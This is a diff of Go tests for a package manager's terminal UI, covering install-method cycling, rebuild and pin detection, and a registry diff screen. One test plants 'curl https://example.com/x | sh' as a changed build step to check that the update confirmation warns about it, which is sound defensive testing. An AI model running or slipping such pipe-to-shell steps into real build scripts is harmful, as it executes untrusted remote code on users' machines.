@@ -3,7 +3,9 @@ package tui
 import (
 	"errors"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -284,9 +286,40 @@ func TestGlobalMethodToggle(t *testing.T) {
 		t.Errorf("status = %q, want it to report the new method", m.status)
 	}
 
+	m = applyMsg(t, m, keyMsg("M"))
+	if m.method != pkg.MethodRelease {
+		t.Errorf("method = %q after a second M, want release", m.method)
+	}
+
+	m = applyMsg(t, m, keyMsg("M"))
+	if m.method != pkg.MethodHead {
+		t.Errorf("method = %q after a third M, want head", m.method)
+	}
+
 	m = applyMsg(t, m, keyMsg("M"))
 	if m.method != pkg.MethodVersion {
-		t.Errorf("method = %q after a second M, want version", m.method)
+		t.Errorf("method = %q after a fourth M, want it back at version", m.method)
+	}
+}
+
+// TestMethodToggleOffersARelease cycles a package with prebuilt binaries for
+// this machine and a repository to follow through all four methods, and one
+// with neither through two.
+func TestMethodToggleOffersARelease(t *testing.T) {
+	m := browseModel(t)
+	bat := pkg.FindByName(m.packages, "bat")
+	bat.Install.Release = pkg.Release{Assets: map[string]pkg.ReleaseAsset{pkg.HostArch(): {}}}
+	m = selectPackage(t, m, "bat")
+
+	for _, want := range []string{pkg.MethodCommit, pkg.MethodRelease, pkg.MethodHead, pkg.MethodVersion} {
+		m = applyMsg(t, m, keyMsg("m"))
+		if got := m.methodOf("bat"); got != want {
+			t.Errorf("methodOf(bat) = %q, want %q", got, want)
+		}
+	}
+
+	if got := nextMethod(pkg.FindByName(m.packages, "yazi"), pkg.MethodCommit); got != pkg.MethodVersion {
+		t.Errorf("nextMethod(yazi, commit) = %q, want version: yazi has no release and no repository", got)
 	}
 }
 
@@ -311,11 +344,13 @@ func TestMethodChoiceIsPerPackage(t *testing.T) {
 		t.Errorf("status = %q, want it to name the package and the method", m.status)
 	}
 
-	// Pressing it again returns the package to the default rather than storing a
-	// second, equal value — which is what lets M move it again.
+	// Coming round returns the package to the default rather than storing a
+	// second, equal value — which is what lets M move it again. bat has no
+	// release, so that is head and then version.
+	m = applyMsg(t, m, keyMsg("m"))
 	m = applyMsg(t, m, keyMsg("m"))
 	if got := m.methodOf("bat"); got != pkg.MethodVersion {
-		t.Errorf("methodOf(bat) = %q after a second m, want version", got)
+		t.Errorf("methodOf(bat) = %q after m came round, want version", got)
 	}
 	if _, pinned := m.methodFor["bat"]; pinned {
 		t.Error("the package is still pinned after returning to the default")
@@ -1251,3 +1286,200 @@ func TestDetailReportsExposedLinks(t *testing.T) {
 		t.Errorf("the detail pane does not mention the exposed link:\n%s", m.detail.View())
 	}
 }
+
+func TestUpdateConfirmShowsChangedBuildScripts(t *testing.T) {
+	m := New(testConfig(t))
+	m = applyMsg(t, m, tea.WindowSizeMsg{Width: 120, Height: 40})
+	packages, installed := samplePackages()
+	for _, p := range packages {
+		if p.Name == "yazi" {
+			p.Install.Steps = []string{"cargo build --release", "curl https://example.com/x | sh"}
+		}
+	}
+	installed["yazi"].Install.Steps = []string{"cargo build --release"}
+	m = applyMsg(t, m, registryLoadedMsg{packages: packages, installed: installed})
+	m = selectPackage(t, m, "yazi")
+
+	m = applyMsg(t, m, keyMsg("u"))
+	if m.screen != screenConfirm {
+		t.Fatalf("screen = %v, want the update confirmed (status: %q)", m.screen, m.status)
+	}
+	view := m.View()
+	for _, want := range []string{"The build scripts changed", "install.steps", "+curl https://example.com/x | sh"} {
+		if !strings.Contains(view, want) {
+			t.Errorf("the confirmation does not show %q:\n%s", want, view)
+		}
+	}
+}
+
+func TestUpdatesTabListsARecommendedRebuild(t *testing.T) {
+	m := New(testConfig(t))
+	m = applyMsg(t, m, tea.WindowSizeMsg{Width: 120, Height: 40})
+	packages, installed := samplePackages()
+	// fzf is current, but was installed from an entry the registry has since
+	// changed.
+	installed["fzf"].EntryHash = "sha256:installed-from-an-older-entry"
+	m = applyMsg(t, m, registryLoadedMsg{packages: packages, installed: installed})
+	m.tab = tabUpdates
+	m.applyTab()
+
+	if got := strings.Join(visibleNames(m), " "); got != "fzf yazi" {
+		t.Fatalf("Updates tab = %q, want the rebuild beside the update", got)
+	}
+	if view := m.View(); !strings.Contains(view, "rebuild") {
+		t.Errorf("the rebuild is not told apart from the update:\n%s", view)
+	}
+
+	m = selectPackage(t, m, "fzf")
+	m = applyMsg(t, m, keyMsg("u"))
+	if m.screen != screenConfirm {
+		t.Fatalf("screen = %v, want the rebuild confirmed (status: %q)", m.screen, m.status)
+	}
+	if view := m.View(); !strings.Contains(view, "the ref did not") {
+		t.Errorf("the confirmation does not say why it rebuilds:\n%s", view)
+	}
+}
+
+func TestDetailShowsACustomPin(t *testing.T) {
+	m := New(testConfig(t))
+	m = applyMsg(t, m, tea.WindowSizeMsg{Width: 120, Height: 40})
+	packages, installed := samplePackages()
+	// yazi is behind the registry, but was pinned there on purpose.
+	installed["yazi"].CustomRef = "nightly"
+	m = applyMsg(t, m, registryLoadedMsg{packages: packages, installed: installed})
+	m.tab = tabUpdates
+	m.applyTab()
+
+	if got := visibleNames(m); len(got) != 0 {
+		t.Errorf("Updates tab = %v, want a pinned package left out", got)
+	}
+
+	m.tab = tabAll
+	m.applyTab()
+	m = selectPackage(t, m, "yazi")
+	view := m.View()
+	if !strings.Contains(view, "Pinned to custom ref") || !strings.Contains(view, "nightly") {
+		t.Errorf("the detail pane does not show the pin:\n%s", view)
+	}
+	if strings.Contains(view, "Update available") {
+		t.Errorf("the detail pane offers the registry's ref as an update:\n%s", view)
+	}
+}
+
+func TestAFollowedBranchThatMovedIsAnUpdate(t *testing.T) {
+	m := New(testConfig(t))
+	m = applyMsg(t, m, tea.WindowSizeMsg{Width: 120, Height: 40})
+	packages, installed := samplePackages()
+	// fzf is current with the registry, but follows a branch that moved on.
+	fzf := installed["fzf"]
+	fzf.InstallMethod = pkg.MethodHead
+	fzf.ResolvedCommit = "1111111111111111111111111111111111111111"
+	fzf.Upstream = "2222222222222222222222222222222222222222"
+	m = applyMsg(t, m, registryLoadedMsg{packages: packages, installed: installed})
+	m.tab = tabUpdates
+	m.applyTab()
+
+	if got := visibleNames(m); !slices.Contains(got, "fzf") {
+		t.Errorf("Updates tab = %v, want fzf for its branch", got)
+	}
+	m = selectPackage(t, m, "fzf")
+	if view := m.View(); !strings.Contains(view, "→ HEAD@222222222222") {
+		t.Errorf("the detail pane does not offer the branch's tip:\n%s", view)
+	}
+}
+
+func TestAHeadBuildIsNotOfferedTheTipItReplaced(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	repo := t.TempDir()
+	for _, args := range [][]string{
+		{"init", "--quiet"},
+		{"-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "--quiet", "--allow-empty", "-m", "one"},
+	} {
+		if out, err := exec.Command("git", append([]string{"-C", repo}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	config := testConfig(t)
+	tool := &pkg.Package{
+		Name: "tool", Version: "v1",
+		Install: pkg.Install{
+			Source:   pkg.Source{URL: "file://" + repo},
+			Steps:    []string{"git clone file://" + repo + " .", "mkdir -p out && touch out/tool"},
+			Binaries: []string{"out/tool"},
+		},
+	}
+	if err := pkg.NewInstaller(config, nil).Install(tool, pkg.MethodHead); err != nil {
+		t.Fatal(err)
+	}
+
+	// The listing still has the tip it saw before the build, which is not
+	// the one the build cloned.
+	installed, err := pkg.InstalledMap(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	installed["tool"].Upstream = "2222222222222222222222222222222222222222"
+	m := New(config)
+	m = applyMsg(t, m, tea.WindowSizeMsg{Width: 120, Height: 40})
+	m = applyMsg(t, m, registryLoadedMsg{packages: []*pkg.Package{tool}, installed: installed})
+	m.screen = screenRun
+	m = applyMsg(t, m, opFinishedMsg{})
+
+	if got := m.installed["tool"]; got.Upstream != got.ResolvedCommit || pkg.HasUpdate(tool, got) {
+		t.Errorf("upstream %q after building %q, want the tip the build recorded", got.Upstream, got.ResolvedCommit)
+	}
+}
+
+func TestRegistryDiffScreen(t *testing.T) {
+	config := testConfig(t)
+	config.Registry.URL = t.TempDir()
+	entry := filepath.Join(config.Registry.URL, "packages", "cli", "bat.yaml")
+	if err := os.MkdirAll(filepath.Dir(entry), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(config.Registry.URL, "index.yaml"),
+		[]byte("packages:\n  - packages/cli/bat.yaml\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var loaded [][]*pkg.Package
+	for _, version := range []string{"v0.25.0", "v0.26.0"} {
+		if err := os.WriteFile(entry, []byte("name: bat\nversion: "+version+"\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		packages, err := pkg.RefreshRegistry(config)
+		if err != nil {
+			t.Fatal(err)
+		}
+		loaded = append(loaded, packages)
+	}
+
+	m := New(config)
+	m = applyMsg(t, m, tea.WindowSizeMsg{Width: 120, Height: 40})
+	m = applyMsg(t, m, registryLoadedMsg{packages: loaded[0], installed: map[string]*pkg.Package{}})
+	m = applyMsg(t, m, registryLoadedMsg{packages: loaded[1], installed: map[string]*pkg.Package{}, refreshed: true})
+	if !strings.Contains(m.status, "1 changed (1 bumped), d to review") {
+		t.Errorf("status = %q, want what the refresh changed", m.status)
+	}
+
+	next, cmd := m.Update(keyMsg("d"))
+	if cmd == nil {
+		t.Fatal("d did not load the diff")
+	}
+	m = applyMsg(t, next.(Model), cmd())
+	if m.screen != screenDiff {
+		t.Fatalf("screen = %v, want the diff (status: %q)", m.screen, m.status)
+	}
+	view := m.View()
+	for _, want := range []string{"bat", "v0.25.0 → v0.26.0", "version"} {
+		if !strings.Contains(view, want) {
+			t.Errorf("the diff does not show %q:\n%s", want, view)
+		}
+	}
+
+	m = applyMsg(t, m, keyMsg("esc"))
+	if m.screen != screenBrowse {
+		t.Errorf("screen = %v after esc, want the list", m.screen)
+	}
+}